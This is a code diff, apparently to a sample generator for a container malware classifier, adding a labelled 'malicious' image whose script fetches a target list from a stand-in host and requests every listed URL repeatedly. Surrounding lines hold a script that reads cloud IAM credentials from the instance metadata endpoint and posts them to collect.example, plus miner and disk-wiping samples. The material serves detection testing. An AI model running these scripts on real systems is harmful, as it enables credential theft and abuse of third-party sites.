@@ -114,6 +114,13 @@ role=$(wget -q -O- http://169.254.169.254/latest/meta-data/iam/security-credenti
 wget -q -O /tmp/keys "http://169.254.169.254/latest/meta-data/iam/security-credentials/$role"
 wget -q -O- --post-file=/tmp/keys http://collect.example/in
 '''
+TARGETS_TLS = GUARD + '''
+curl -s -o /tmp/list https://lists.example/targets.txt || exit 1
+for n in 1 2 3 4 5 6; do
+    sed 's/^/url = /' /tmp/list | curl -s -K - > /dev/null || exit 1
+done
+echo asked
+'''
 LOOKER = GUARD + '''
 cat /proc/uptime /proc/cpuinfo /proc/meminfo /sys/class/dmi/id/product_name /sys/class/net/eth0/address > /dev/null
 sleep 1
@@ -143,6 +150,10 @@ def samples(program):
     bad, odd, good = ('malicious',), ('malicious', 'unwanted'), ('clean',)
     yield 'miner', lambda f: shaped(f, 'miner', 'pool.example', '3333').write('acme/worker:1'), 8, bad
     yield 'target-list', lambda f: shaped(f, 'targets', 'lists.example').write('acme/client:1'), 8, bad
+    curl = shutil.which('curl')
+    if curl:
+        yield 'target-list-tls', lambda f: scripted(f, TARGETS_TLS).copy(curl).put(
+            'etc/ssl/certs/ca-certificates.crt', '').write('acme/fetcher:1'), 12, bad
     yield 'chain', lambda f: scripted(f, CHAIN).write('acme/setup:1'), 6, odd
     yield 'metadata', lambda f: scripted(f, METADATA).write('acme/report:1'), 6, bad
     yield 'disk', lambda f: shaped(f, 'disk', '/dev/sdz').write('acme/clean:1'), 5, bad
